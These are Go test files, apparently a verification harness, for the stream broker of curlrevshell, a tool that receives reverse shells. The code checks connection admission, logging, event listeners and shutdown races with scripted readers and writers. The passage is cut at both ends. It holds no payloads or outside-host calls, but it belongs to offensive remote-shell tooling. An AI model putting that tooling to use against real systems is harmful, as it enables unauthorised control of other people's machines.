		t.Fatal(err)
	}
	defer in.Close()
	resF, err := os.Create(outf)
	if nil != err {
		t.Fatal(err)
	}
	defer resF.Close()
	w := bufio.NewWriterSize(resF, 1<<20)
	defer w.Flush()
	capF, err := os.CreateTemp(os.Getenv("VERIF_TMP"), "stdout")
	if nil != err {
		t.Fatal(err)
	}
	defer os.Remove(capF.Name())
	realStdout := os.Stdout
	defer func() { os.Stdout = realStdout }()

	sc := bufio.NewScanner(in)
	sc.Buffer(make([]byte, 1<<20), 1<<26)
	for sc.Scan() {
		var c struct {
			I      int      `json:"i"`
			Chunks []string `json:"chunks"`
			Status []string `json:"status"` /* status / log lines (not Plain), sent after the chunks */
			Winch  bool     `json:"winch"`  /* run the whole Shell.Do and resize the terminal (SIGWINCH) after every chunk */
			CtrlJ  string   `json:"ctrl_j"` /* the Ctrl+I source (hex); Ctrl+J shows it without sending it */
		}
		if err := json.Unmarshal(sc.Bytes(), &c); nil != err {
			t.Fatal(err)
		}
		os.Stdout = capF
		off, _ := capF.Seek(0, io.SeekEnd)
		fail := ""
		func() {
			ich := make(chan string, 16)
			och := make(chan CLine)
			var gen func() ([]byte, error)
			if "" != c.CtrlJ {
				src, _ := hex.DecodeString(c.CtrlJ)
				gen = func() ([]byte, error) { return src, nil }
			}
			s, cleanup, err := New(ich, och, "> ", true, gen, "verif-source")
			if nil != err {
				fail = err.Error()
				return
			}
			defer cleanup()
			ctx, cancel := context.WithCancel(context.Background())
			if nil != gen {
				s.pretendInsert()
			}
			done := make(chan struct{})
			if c.Winch {
				pr, pw, _ := os.Pipe()
				realStdin := os.Stdin
				os.Stdin = pr
				defer func() { pw.Close(); pr.Close(); os.Stdin = realStdin }()
				go func() { s.Do(ctx); close(done) }()
				time.Sleep(20 * time.Millisecond)
			} else {
				go func() { s.handleOutput(ctx); close(done) }()
			}
			for _, h := range c.Chunks {
				b, _ := hex.DecodeString(h)
				och <- CLine{Plain: true, Line: string(b)}
				if c.Winch {
					time.Sleep(3 * time.Millisecond)
					syscall.Kill(os.Getpid(), syscall.SIGWINCH)
					time.Sleep(3 * time.Millisecond)
				}
			}
			for _, h := range c.Status {
				b, _ := hex.DecodeString(h)
				och <- CLine{Color: ColorCyan, Line: string(b)}
			}
			/* one more rendezvous: when it is taken, the previous line has been written */
			och <- CLine{Plain: true, Line: ""}
			cancel()
			if c.Winch {
				select {
				case <-done:
				case <-time.After(300 * time.Millisecond): /* ReadLine cannot be interrupted; the pipe is closed on the way out */
				}
			} else {
				<-done
			}
			s.silenceTimer.Stop()
		}()
		os.Stdout = realStdout
		shown := ""
		if fi, err := capF.Stat(); nil == err && fi.Size() > off {
			b := make([]byte, fi.Size()-off)
			n, _ := capF.ReadAt(b, off)
			shown = hex.EncodeToString(b[:n])
		}
		b, _ := json.Marshal(map[string]any{"i": c.I, "shown": shown, "fail": fail})
		w.Write(b)
		w.WriteByte('\n')
	}
}
