//go:build verif

package iobroker_test

/*
 * zz_verif_broker_test.go
 * Verification harness (lives in /verif, injected with -overlay): executes
 * operation lists on the real Broker inside a testing/synctest bubble,
 * serialising connect's critical sections through the verif hook, and
 * records what the operator channel, the JSON logger, the event listener,
 * the stream writers and the Connect* calls did after every operation.
 */

import (
	"bufio"
	"context"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"os"
	"runtime"
	"strings"
	"sync"
	"testing"
	"testing/synctest"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

type vKey struct{}

// vReq identifies one Connect* call (or one ConnectInOut request).
type vReq struct{ in, out int }

type vGate struct {
	admit, release chan struct{}
}

type vItem struct {
	data []byte
	err  error
}

// vReader is a scripted io.Reader: Read blocks until the harness supplies an item.
type vReader struct {
	ch     chan vItem
	sticky error
	rest   *vItem /* what did not fit into the caller's buffer: returned by the next Read, before anything queued later */
}

// vScratch: the buffers of Reads which are waiting for data.  io.Reader: "Even if Read returns n < len(p), it may use all of p as scratch
// space during the call" - so whenever some stream's Read delivers data, every OTHER stream's waiting Read (e.g. the lingering reader of a
// shell which is no longer attached) scribbles over the buffer it was given.  Harmless unless two streams were handed the same memory.
var vScratch = struct {
	mu      sync.Mutex
	waiting map[*vReader][]byte
}{waiting: map[*vReader][]byte{}}

func (r *vReader) Read(p []byte) (int, error) {
	if nil != r.sticky {
		return 0, r.sticky
	}
	var it vItem
	if nil != r.rest {
		it, r.rest = *r.rest, nil
	} else {
		var ok bool
		vScratch.mu.Lock()
		vScratch.waiting[r] = p
		vScratch.mu.Unlock()
		it, ok = <-r.ch
		vScratch.mu.Lock()
		delete(vScratch.waiting, r)
		vScratch.mu.Unlock()
		if !ok {
			r.sticky = io.EOF
			return 0, io.EOF
		}
	}
	n := copy(p, it.data)
	if 0 < n {
		vScratch.mu.Lock()
		for o, q := range vScratch.waiting {
			if o != r {
				for k := range q {
					q[k] = 0xEE
				}
			}
		}
		vScratch.mu.Unlock()
	}
	if n < len(it.data) { /* More than the buffer holds: keep the rest. */
		r.rest = &vItem{data: it.data[n:], err: it.err}
		return n, nil
	}
	if nil != it.err {
		r.sticky = it.err
	}
	return n, it.err
}

// vState is one case's shared state.
type vState struct {
	mu       sync.Mutex
	gates    map[int]*vGate
	parked   map[int]string /* sid -> point it is parked at */
	attached []int
	returned []int
	wlog     [][]any
	recs     []map[string]any
	writers  map[int]*vWriter
}

// vWriter is a scripted io.Writer of one of four kinds.
type vWriter struct {
	st        *vState
	sid       int
	wfail     int /* fail the k-th Write (0-based), -1 never */
	ffail     int /* fail the k-th flush */
	nw, nf    int
	shortfail bool
	armed     bool          /* the next Write blocks until released */
	gate      chan struct{}
}

func (w *vWriter) Write(p []byte) (int, error) {
	w.st.mu.Lock()
	if w.armed {
		w.armed = false
		w.st.mu.Unlock()
		<-w.gate
		w.st.mu.Lock()
	}
	defer w.st.mu.Unlock()
	k := w.nw
	w.nw++
	if k == w.wfail {
		w.st.wlog = append(w.st.wlog, []any{w.sid, "WX", hex.EncodeToString(p)})
		return 0, errors.New("scripted write failure")
	}
	w.st.wlog = append(w.st.wlog, []any{w.sid, "W", hex.EncodeToString(p)})
	return len(p), nil
}
func (w *vWriter) flush(kind string) error {
	w.st.mu.Lock()
	defer w.st.mu.Unlock()
	k := w.nf
	w.nf++
	if k == w.ffail {
		w.st.wlog = append(w.st.wlog, []any{w.sid, kind + "X"})
		return errors.New("scripted flush failure")
	}
	w.st.wlog = append(w.st.wlog, []any{w.sid, kind})
	return nil
}

type vPlain struct{ *vWriter }
type vFlusher struct{ *vWriter }

func (w vFlusher) Flush() { w.flush("F") }

type vFlushErr struct{ *vWriter }

func (w vFlushErr) FlushError() error { return w.flush("FE") }

type vBoth struct{ *vWriter }

func (w vBoth) Flush()            { w.flush("F") }
func (w vBoth) FlushError() error { return w.flush("FE") }

func mkWriter(st *vState, sid int, kind string, wfail, ffail int) io.Writer {
	w := &vWriter{st: st, sid: sid, wfail: wfail, ffail: ffail, gate: make(chan struct{}, 1)}
	st.mu.Lock()
	if nil == st.writers {
		st.writers = map[int]*vWriter{}
	}
	st.writers[sid] = w
	st.mu.Unlock()
	switch kind {
	case "flusher":
		return vFlusher{w}
	case "flusherr":
		return vFlushErr{w}
	case "both":
		return vBoth{w}
	}
	return vPlain{w}
}

// vHandler captures slog records.
type vHandler struct {
	st    *vState
	attrs []slog.Attr
	jh    slog.Handler /* the handler curlrevshell.go really uses: slog.NewJSONHandler(w, nil) */
}

func (h *vHandler) Enabled(context.Context, slog.Level) bool { return true }
func (h *vHandler) WithGroup(string) slog.Handler             { return h }
func (h *vHandler) WithAttrs(as []slog.Attr) slog.Handler {
	return &vHandler{st: h.st, attrs: append(append([]slog.Attr{}, h.attrs...), as...), jh: h.jh.WithAttrs(as)}
}
func (h *vHandler) Handle(ctx context.Context, r slog.Record) error {
	m := map[string]any{"msg": r.Message, "level": r.Level.String()}
	m["json"] = h.jh.Enabled(ctx, r.Level)
	if h.jh.Enabled(ctx, r.Level) {
		h.jh.Handle(ctx, r)
	}
	add := func(a slog.Attr) bool {
		v := a.Value.Any()
		switch x := v.(type) {
		case error:
			m[a.Key] = x.Error()
		case string:
			if "data" == a.Key || "key" == a.Key || "incorrect_key" == a.Key {
				m[a.Key] = hex.EncodeToString([]byte(x))
			} else {
				m[a.Key] = x
			}
		default:
			m[a.Key] = fmt.Sprint(v)
		}
		return true
	}
	for _, a := range h.attrs {
		add(a)
	}
	r.Attrs(add)
	h.st.mu.Lock()
	h.st.recs = append(h.st.recs, m)
	h.st.mu.Unlock()
	return nil
}

func vhex(v any) []byte {
	s, _ := v.(string)
	b, _ := hex.DecodeString(s)
	return b
}
func vint(v any, def int) int {
	f, ok := v.(float64)
	if !ok {
		return def
	}
	return int(f)
}

var vErrs = map[string]error{
	"eof": io.EOF, "ueof": io.ErrUnexpectedEOF, "closedpipe": io.ErrClosedPipe,
	"other": errors.New("scripted read failure"),
}

// runCase executes one operation list; it returns one observation record per operation plus a final one.
func runCase(c map[string]any) (steps []map[string]any) {
	st := &vState{gates: map[int]*vGate{}, parked: map[int]string{}}
	ochcap := vint(c["ochcap"], 4096)
	_, stalled := c["ochcap"]
	ich := make(chan string, 1024)
	och := make(chan opshell.CLine, ochcap)
	b, err := iobroker.New(ich, och)
	if nil != err {
		panic(err)
	}
	evl := make(chan iobroker.Event, iobroker.EVChanLen)
	b.AddEventListener(evl)
	dctx, dcancel := context.WithCancel(context.Background())
	doRet := false
	go func() { b.Do(dctx); st.mu.Lock(); doRet = true; st.mu.Unlock() }()

	iobroker.VerifHook = func(ctx context.Context, point, dir, key string) {
		rq, ok := ctx.Value(vKey{}).(*vReq)
		if !ok {
			return
		}
		sid := rq.in
		if "output" == dir {
			sid = rq.out
		}
		st.mu.Lock()
		g := st.gates[sid]
		switch point {
		case "attached":
			st.attached = append(st.attached, sid)
		case "done":
			st.returned = append(st.returned, sid)
		}
		if nil == g || ("admit" != point && "release" != point) {
			st.mu.Unlock()
			return
		}
		st.parked[sid] = point
		ch := g.admit
		if "release" == point {
			ch = g.release
		}
		st.mu.Unlock()
		<-ch
		st.mu.Lock()
		delete(st.parked, sid)
		st.mu.Unlock()
	}
	defer func() { iobroker.VerifHook = nil }()

	attachedEver := map[int]bool{}
	readers := map[int]*vReader{}
	cancels := map[int]context.CancelFunc{}
	jbuf := new(strings.Builder)
	root := slog.New(&vHandler{st: st, jh: slog.NewJSONHandler(jbuf, nil)})
	ichClosed := false

	newStream := func(sid int) {
		st.mu.Lock()
		st.gates[sid] = &vGate{admit: make(chan struct{}, 1), release: make(chan struct{}, 1)}
		st.mu.Unlock()
	}
	classify := func(cl opshell.CLine) []any {
		if cl.Plain {
			return []any{"plain", hex.EncodeToString([]byte(cl.Line))}
		}
		a := ""
		if strings.HasPrefix(cl.Line, "[") {
			if i := strings.Index(cl.Line, "] "); i > 0 {
				a = cl.Line[1:i]
			}
		}
		k := "other"
		switch {
		case strings.HasSuffix(cl.Line, "] "+iobroker.ShellReadyMessage):
			k = "ready"
		case strings.HasSuffix(cl.Line, "] "+iobroker.ShellDisconnectedMessage):
			k = "gone"
		}
		dw := ""
		low := strings.ToLower(cl.Line)
		if strings.Contains(low, "input") {
			dw = "in"
		}
		if strings.Contains(low, "output") {
			dw += "out"
		}
		return []any{"note", a, int(cl.Color), k, dw, cl.Line}
	}
	var windOl [][]any /* what the terminal receives while everything is wound down */
	collect := func(op map[string]any) map[string]any {
		synctest.Wait()
		obs := map[string]any{}
		var ol [][]any
		/* A stalled terminal takes items only when told to. */
		want := -1
		if stalled && nil != op {
			want = 0
			if "drain" == op["op"] {
				want = vint(op["n"], 1)
			}
		}
	DRAIN:
		for 0 != want {
			select {
			case cl := <-och:
				ol = append(ol, classify(cl))
				if want > 0 && len(ol) >= want {
					break DRAIN
				}
			default:
				break DRAIN
			}
		}
		obs["och"] = ol
		if stalled {
			synctest.Wait() /* whoever was blocked on the operator channel catches up (logs what it just sent) */
		}
		var evs []string
	EV:
		for {
			select {
			case e := <-evl:
				evs = append(evs, string(e.Type))
			default:
				break EV
			}
		}
		obs["ev"] = evs
		st.mu.Lock()
		obs["log"] = st.recs
		st.recs = nil
		pend := map[string]int{} /* reads offered to an output stream and not yet taken by its reader */
		for sid, r := range readers {
			pend[fmt.Sprint(sid)] = len(r.ch)
		}
		obs["pend"] = pend
		obs["att"] = st.attached
		for _, a := range st.attached {
			attachedEver[a] = true
		}
		st.attached = nil
		obs["ret"] = st.returned
		st.returned = nil
		obs["w"] = st.wlog
		st.wlog = nil
		pk := map[string]string{}
		for s, p := range st.parked {
			pk[fmt.Sprint(s)] = p
		}
		obs["parked"] = pk
		obs["do"] = doRet
		st.mu.Unlock()
		return obs
	}

	for _, o := range c["ops"].([]any) {
		op := o.(map[string]any)
		switch op["op"].(string) {
		case "admit": /* unidirectional attempt: create and let it through the admission section */
			sid := vint(op["s"], 0)
			newStream(sid)
			rq := &vReq{in: sid, out: sid}
			ctx, cancel := context.WithCancel(context.WithValue(context.Background(), vKey{}, rq))
			cancels[sid] = cancel
			if b, _ := op["precancel"].(bool); b { /* the client hung up between sending its request and being admitted */
				cancel()
			}
			sl := root.With("sid", sid)
			addr := fmt.Sprintf("s%d", sid)
			key := string(vhex(op["key"]))
			if "in" == op["d"] {
				w := mkWriter(st, sid, fmt.Sprint(op["wk"]), vint(op["wfail"], -1), vint(op["ffail"], -1))
				go b.ConnectIn(ctx, sl, addr, w, key)
			} else {
				r := &vReader{ch: make(chan vItem, 64)}
				readers[sid] = r
				go b.ConnectOut(ctx, sl, addr, r, key)
			}
			synctest.Wait()
			st.gates[sid].admit <- struct{}{}
		case "ioreq": /* bidirectional request: both halves park before admission */
			si, so := vint(op["si"], 0), vint(op["so"], 0)
			newStream(si)
			newStream(so)
			rq := &vReq{in: si, out: so}
			ctx, cancel := context.WithCancel(context.WithValue(context.Background(), vKey{}, rq))
			cancels[si] = cancel
			cancels[so] = cancel
			w := mkWriter(st, si, fmt.Sprint(op["wk"]), vint(op["wfail"], -1), vint(op["ffail"], -1))
			r := &vReader{ch: make(chan vItem, 64)}
			readers[so] = r
			sl := root.With("sid", si, "sid_out", so)
			go b.ConnectInOut(ctx, sl, fmt.Sprintf("r%d", si), w, r)
		case "go": /* let a parked half through the admission section */
			st.mu.Lock()
			pk := st.parked[vint(op["s"], 0)]
			st.mu.Unlock()
			if "admit" == pk {
				st.gates[vint(op["s"], 0)].admit <- struct{}{}
			}
		case "line":
			if !ichClosed {
				select {
				case ich <- string(vhex(op["l"])):
				default:
				}
			}
		case "armw": /* the next Write of this stream's writer blocks */
			st.mu.Lock()
			if w := st.writers[vint(op["s"], 0)]; nil != w {
				w.armed = true
			}
			st.mu.Unlock()
		case "relw":
			st.mu.Lock()
			w := st.writers[vint(op["s"], 0)]
			st.mu.Unlock()
			if nil != w {
				select {
				case w.gate <- struct{}{}:
				default:
				}
			}
		case "cancelline": /* the client goes away at the very moment a line is entered: select may take either */
			if f := cancels[vint(op["s"], 0)]; nil != f && attachedEver[vint(op["s"], 0)] && !ichClosed {
				f()
				select {
				case ich <- string(vhex(op["l"])):
				default:
				}
			}
		case "closeich":
			if !ichClosed {
				close(ich)
				ichClosed = true
			}
		case "data":
			if r := readers[vint(op["s"], 0)]; nil != r && nil == r.sticky && attachedEver[vint(op["s"], 0)] {
				var e error
				if s, _ := op["err"].(string); "" != s {
					e = vErrs[s]
				}
				select {
				case r.ch <- vItem{data: vhex(op["d"]), err: e}:
				default:
				}
			}
		case "cancel":
			if f := cancels[vint(op["s"], 0)]; nil != f && attachedEver[vint(op["s"], 0)] {
				f()
			}
		case "release":
			st.mu.Lock()
			pk := st.parked[vint(op["s"], 0)]
			st.mu.Unlock()
			if "release" == pk {
				st.gates[vint(op["s"], 0)].release <- struct{}{}
			}
		case "shutdown":
			dcancel()
		case "sleep": /* time passes (virtual clock of the bubble): whatever timers the broker has armed fire */
			time.Sleep(time.Duration(vint(op["ms"], 1000)) * time.Millisecond)
		case "drain": /* handled by collect: take n items from the operator channel */
		}
		steps = append(steps, collect(op))
	}

	/* Wind down: end every transport, open every gate, stop the broker. */
	for _, f := range cancels {
		f()
	}
	for _, r := range readers {
		func() { defer func() { recover() }(); close(r.ch) }()
	}
	for range 400 {
		synctest.Wait()
		moved := 0
		st.mu.Lock()
		for _, w := range st.writers {
			select {
			case w.gate <- struct{}{}:
			default:
			}
		}
		for s := range st.parked {
			g := st.gates[s]
			select {
			case g.admit <- struct{}{}:
				moved++
			default:
			}
			select {
			case g.release <- struct{}{}:
				moved++
			default:
			}
		}
		st.mu.Unlock()
		/* Keep the operator channel flowing. */
		for len(och) > 0 {
			windOl = append(windOl, classify(<-och))
			moved++
		}
		if 0 == moved {
			break
		}
	}
	dcancel()
	fin := collect(nil)
	if fo, _ := fin["och"].([][]any); 0 != len(windOl) || 0 != len(fo) {
		fin["och"] = append(windOl, fo...)
	}
	/* Anything of the broker still running? */
	buf := make([]byte, 1<<20)
	buf = buf[:runtime.Stack(buf, true)]
	var leaks []string
	for _, g := range strings.Split(string(buf), "\n\n") {
		if strings.Contains(g, "iobroker.(*Broker)") && !strings.Contains(g, "runCase") {
			l := strings.Split(g, "\n")
			if len(l) > 6 {
				l = l[:6]
			}
			leaks = append(leaks, strings.Join(l, " | "))
		}
	}
	fin["leaks"] = leaks
	fin["ngoroutines"] = runtime.NumGoroutine()
	/* The JSON log: one object per line. */
	jok, jn := true, 0
	for _, l := range strings.Split(strings.TrimSuffix(jbuf.String(), "\n"), "\n") {
		if "" == l && 0 == jbuf.Len() {
			continue
		}
		jn++
		var v map[string]any
		if err := json.Unmarshal([]byte(l), &v); nil != err || nil == v["msg"] || nil == v["time"] {
			jok = false
		}
	}
	fin["json_ok"] = jok && (0 == jbuf.Len() || strings.HasSuffix(jbuf.String(), "\n"))
	fin["json_lines"] = jn
	fin["final"] = true
	steps = append(steps, fin)
	return steps
}

func TestVerifBroker(t *testing.T) {
	inf, outf := os.Getenv("VERIF_CASES"), os.Getenv("VERIF_OUT")
	if "" == inf || "" == outf {
		t.Skip("verification harness: VERIF_CASES / VERIF_OUT not set")
	}
	in, err := os.Open(inf)
	if nil != err {
		t.Fatal(err)
	}
	defer in.Close()
	outF, err := os.Create(outf)
	if nil != err {
		t.Fatal(err)
	}
	defer outF.Close()
	w := bufio.NewWriterSize(outF, 1<<20)
	defer w.Flush()
	sc := bufio.NewScanner(in)
	sc.Buffer(make([]byte, 1<<20), 1<<28)
	for sc.Scan() {
		var c map[string]any
		if err := json.Unmarshal(sc.Bytes(), &c); nil != err {
			t.Fatal(err)
		}
		var steps []map[string]any
		dead := ""
		func() {
			defer func() {
				if r := recover(); nil != r {
					dead = fmt.Sprint(r)
				}
			}()
			synctest.Test(t, func(t *testing.T) { steps = runCase(c) })
		}()
		b, _ := json.Marshal(map[string]any{"i": c["i"], "steps": steps, "bubble_panic": dead, "consts": map[string]string{
			"new": iobroker.LMNewConnection, "disc": iobroker.LMDisconnected, "io": iobroker.LMShellIO,
			"keymissing": iobroker.LMKeyMissing, "teardown": iobroker.LMDisconnecting,
			"dup": iobroker.LMAlreadyConnected, "badkey": iobroker.LMIncorrectKey,
			"kerr": iobroker.LKError, "kdata": iobroker.LKData, "kdir": iobroker.LKDirection,
			"vout": string(iobroker.LVOutput)}})
		w.Write(b)
		w.WriteByte('\n')
	}
}


// vNopHandler counts "New connection" records per request.
type vCountHandler struct {
	mu   *sync.Mutex
	seen *[]string
	tag  string
}

func (h vCountHandler) Enabled(context.Context, slog.Level) bool { return true }
func (h vCountHandler) WithGroup(string) slog.Handler             { return h }
func (h vCountHandler) WithAttrs(as []slog.Attr) slog.Handler {
	t := h.tag
	for _, a := range as {
		if iobroker.LKDirection == a.Key {
			t += ":" + a.Value.String()
		}
	}
	return vCountHandler{mu: h.mu, seen: h.seen, tag: t}
}
func (h vCountHandler) Handle(_ context.Context, r slog.Record) error {
	if iobroker.LMNewConnection == r.Message {
		h.mu.Lock()
		*h.seen = append(*h.seen, h.tag)
		h.mu.Unlock()
	}
	return nil
}

type vBlockReader struct{ ch chan struct{} }

func (r vBlockReader) Read([]byte) (int, error) { <-r.ch; return 0, io.EOF }

// TestVerifIoStress: really concurrent /io requests (no gates, real scheduler).  A one-sided
// test: a cross-pair seen here is real; none seen proves nothing.
func TestVerifIoStress(t *testing.T) {
	outf := os.Getenv("VERIF_OUT")
	if "" == outf || "" == os.Getenv("VERIF_STRESS") {
		t.Skip("verification harness")
	}
	rounds := 1500
	fmt.Sscan(os.Getenv("VERIF_STRESS"), &rounds)
	iobroker.VerifHook = nil
	var bad []map[string]any
	for round := 0; round < rounds && len(bad) < 3; round++ {
		k := 2 + round%3
		ich := make(chan string, 16)
		och := make(chan opshell.CLine, 4096)
		b, err := iobroker.New(ich, och)
		if nil != err {
			t.Fatal(err)
		}
		dctx, dcancel := context.WithCancel(context.Background())
		ddone := make(chan struct{})
		go func() { b.Do(dctx); close(ddone) }()
		var (
			mu     sync.Mutex
			seen   []string
			wg     sync.WaitGroup
			start  = make(chan struct{})
			ctx, c = context.WithCancel(context.Background())
			rdrs   []vBlockReader
		)
		for q := 0; q < k; q++ {
			r := vBlockReader{ch: make(chan struct{})}
			rdrs = append(rdrs, r)
			sl := slog.New(vCountHandler{mu: &mu, seen: &seen, tag: fmt.Sprint(q)})
			wg.Add(1)
			go func() {
				defer wg.Done()
				<-start
				b.ConnectInOut(ctx, sl, fmt.Sprintf("r%d", q), io.Discard, r)
			}()
		}
		runtime.Gosched()
		close(start)
		/* Give the admissions time to happen, then end everything. */
		for spin := 0; spin < 2000; spin++ {
			mu.Lock()
			n := len(seen)
			mu.Unlock()
			if n >= 2 {
				break
			}
			runtime.Gosched()
		}
		mu.Lock()
		reqs := map[string]bool{}
		for _, s := range seen {
			reqs[strings.SplitN(s, ":", 2)[0]] = true
		}
		if len(reqs) > 1 {
			bad = append(bad, map[string]any{"round": round, "requests": k, "attached": append([]string{}, seen...)})
		}
		mu.Unlock()
		c()
		for _, r := range rdrs {
			close(r.ch)
		}
		wg.Wait()
		dcancel()
		<-ddone
	}
	bj, _ := json.Marshal(map[string]any{"rounds": rounds, "crosspairs": bad})
	os.WriteFile(outf, append(bj, '\n'), 0600)
}
