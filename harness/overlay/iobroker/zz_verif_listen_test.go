//go:build verif

package iobroker_test

/*
 * zz_verif_listen_test.go
 * Verification harness (lives in /verif, injected with -overlay): event
 * listeners which come and go (C04: "event listeners: exactly one
 * disconnected event ... a connected event exactly when a shell becomes fully
 * attached ... indefinitely many times in series").  Shells live and die
 * while nobody listens, a listener registers, a shell lives and dies, the
 * listener leaves, more shells, another listener.  Real scheduler.
 */

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

// vlShell runs one shell to completion; ending says which side ends first.
func vlShell(b *iobroker.Broker, och chan opshell.CLine, id, ending string) string {
	sl := slog.New(slog.NewTextHandler(io.Discard, nil))
	outr, outw := io.Pipe()
	defer outr.Close()
	defer outw.Close()
	ctxI, cancelI := context.WithCancel(context.Background())
	defer cancelI()
	ctxO, cancelO := context.WithCancel(context.Background())
	defer cancelO()
	var wg sync.WaitGroup
	fin := make(chan struct{})
	wg.Add(2)
	go func() { defer wg.Done(); b.ConnectIn(ctxI, sl, "in", io.Discard, id) }()
	go func() { defer wg.Done(); b.ConnectOut(ctxO, sl, "out", outr, id) }()
	go func() { wg.Wait(); close(fin) }()
	to := time.After(5 * time.Second)
	for ready := false; !ready; {
		select {
		case cl := <-och:
			ready = strings.HasSuffix(cl.Line, iobroker.ShellReadyMessage)
		case <-fin:
			return "streams returned before the shell was ready"
		case <-to:
			return "never became ready"
		}
	}
	switch ending {
	case "eof":
		outw.Close()
	case "cancel-in":
		cancelI()
	default:
		cancelO()
	}
	select {
	case <-fin:
	case <-time.After(5 * time.Second):
		return "was not torn down within 5 s"
	}
	gone := 0
	for 0 != len(och) {
		if strings.HasSuffix((<-och).Line, iobroker.ShellDisconnectedMessage) {
			gone++
		}
	}
	if 1 != gone {
		return fmt.Sprintf("%d 'gone' notices", gone)
	}
	return ""
}

func vlCollect(ch chan iobroker.Event) []string {
	got := []string{}
	idle := time.NewTimer(400 * time.Millisecond)
	for {
		select {
		case ev := <-ch:
			got = append(got, string(ev.Type))
			if 2 <= len(got) {
				idle.Reset(120 * time.Millisecond)
			}
		case <-idle.C:
			return got
		}
	}
}

func TestVerifListeners(t *testing.T) {
	outf := os.Getenv("VERIF_OUT")
	if "" == outf || "" == os.Getenv("VERIF_LISTEN") {
		t.Skip("verification harness")
	}
	iobroker.VerifHook = nil
	var plans [][]int /* shells without a listener before each of two listening windows */
	json.Unmarshal([]byte(os.Getenv("VERIF_LISTEN")), &plans)
	var caps [][]int /* capacity of each window's listener channel; a listener with a small channel reads only after its shell has gone */
	json.Unmarshal([]byte(os.Getenv("VERIF_LISTEN_CAPS")), &caps)
	endings := []string{"eof", "cancel-in", "cancel-out"}
	var res []map[string]any
	for pi, plan := range plans {
		ich := make(chan string)
		och := make(chan opshell.CLine, 1024)
		b, err := iobroker.New(ich, och)
		if nil != err {
			t.Fatal(err)
		}
		dctx, dcancel := context.WithCancel(context.Background())
		ddone := make(chan struct{})
		go func() { b.Do(dctx); close(ddone) }()
		r := map[string]any{"plan": plan, "windows": []any{}, "problem": ""}
		n := 0
	windows:
		for wi, unheard := range plan {
			for k := 0; k < unheard; k++ {
				if p := vlShell(b, och, fmt.Sprintf("s%d", n), endings[n%3]); "" != p {
					r["problem"] = fmt.Sprintf("shell %d (no listener registered): %s", n, p)
					break windows
				}
				n++
			}
			time.Sleep(30 * time.Millisecond)
			lcap := iobroker.EVChanLen
			if pi < len(caps) && wi < len(caps[pi]) {
				lcap = caps[pi][wi]
			}
			evl := make(chan iobroker.Event, lcap)
			b.AddEventListener(evl)
			if p := vlShell(b, och, fmt.Sprintf("s%d", n), endings[(n+pi)%3]); "" != p {
				r["problem"] = fmt.Sprintf("shell %d (listener registered): %s", n, p)
				break windows
			}
			n++
			if lcap < 8 { /* a slow listener: it looks at its channel only well after the shell has gone */
				time.Sleep(150 * time.Millisecond)
			}
			r["windows"] = append(r["windows"].([]any), vlCollect(evl))
			b.RemoveEventListener(evl)
		}
		dcancel()
		select {
		case <-ddone:
		case <-time.After(5 * time.Second):
			if "" == r["problem"] {
				r["problem"] = "Broker.Do did not return after shutdown"
			}
		}
		res = append(res, r)
	}
	bj, _ := json.Marshal(res)
	os.WriteFile(outf, append(bj, '\n'), 0600)
}
