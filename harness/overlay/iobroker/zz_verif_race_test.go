//go:build verif

package iobroker_test

/*
 * zz_verif_race_test.go
 * Verification harness (lives in /verif, injected with -overlay): schedules
 * which need the broker's mutex to be HELD while other callers queue on it -
 * something the gate-per-critical-section harness cannot express (a goroutine
 * waiting for a sync.Mutex is not durably blocked, so testing/synctest cannot
 * be used).  Real scheduler, real time, small sleeps.
 *
 * Scenario (C04 shutdown clause / C01): the operator's terminal is stalled,
 * so a refusal notice blocks inside the admission section with the mutex
 * held; shutdown begins (Do queues on the mutex); a new attempt arrives
 * (queues behind it); the terminal resumes.  Whatever the order in which the
 * mutex is handed on, once Do has returned no stream may be attached.
 */

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"os"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/magisterquis/curlrevshell/internal/iobroker"
	"github.com/magisterquis/curlrevshell/lib/opshell"
)

func TestVerifShutdownRace(t *testing.T) {
	outf := os.Getenv("VERIF_OUT")
	if "" == outf || "" == os.Getenv("VERIF_RACE") {
		t.Skip("verification harness")
	}
	rounds := 20
	fmt.Sscan(os.Getenv("VERIF_RACE"), &rounds)
	iobroker.VerifHook = nil
	sl := slog.New(slog.NewTextHandler(io.Discard, nil))
	var bad []map[string]any
	doReturned, attachedBefore := 0, 0
	for round := 0; round < rounds && len(bad) < 3; round++ {
		ich := make(chan string, 16)
		och := make(chan opshell.CLine, 1)
		b, err := iobroker.New(ich, och)
		if nil != err {
			t.Fatal(err)
		}
		dctx, dcancel := context.WithCancel(context.Background())
		ddone := make(chan struct{})
		go func() { b.Do(dctx); close(ddone) }()
		ctx, cancel := context.WithCancel(context.Background())

		/* Fill the operator channel, then leave one refusal blocked inside the admission section. */
		b.ConnectIn(ctx, sl, "nokey-1", io.Discard, "")
		xdone := make(chan struct{})
		go func() { b.ConnectIn(ctx, sl, "nokey-2", io.Discard, ""); close(xdone) }()
		time.Sleep(3 * time.Millisecond)
		/* Shutdown begins... */
		dcancel()
		time.Sleep(3 * time.Millisecond)
		/* ...and an attempt arrives (alternately an input, an output). */
		var sRunning atomic.Bool
		sdone := make(chan struct{})
		sRunning.Store(true)
		pr, pw := io.Pipe()
		go func() {
			if 0 == round%2 {
				b.ConnectIn(ctx, sl, "late", io.Discard, "k")
			} else {
				b.ConnectOut(ctx, sl, "late", pr, "k")
			}
			sRunning.Store(false)
			close(sdone)
		}()
		time.Sleep(3 * time.Millisecond)
		/* The terminal resumes. */
		var (
			lines []string
			lmu   sync.Mutex
		)
		stopDrain := make(chan struct{})
		drained := make(chan struct{})
		go func() {
			defer close(drained)
			for {
				select {
				case cl := <-och:
					lmu.Lock()
					lines = append(lines, cl.Line)
					lmu.Unlock()
				case <-stopDrain:
					return
				}
			}
		}()
		select {
		case <-ddone:
			doReturned++
			time.Sleep(20 * time.Millisecond)
			if sRunning.Load() {
				lmu.Lock()
				bad = append(bad, map[string]any{"round": round, "late_attempt": map[bool]string{true: "input", false: "output"}[0 == round%2],
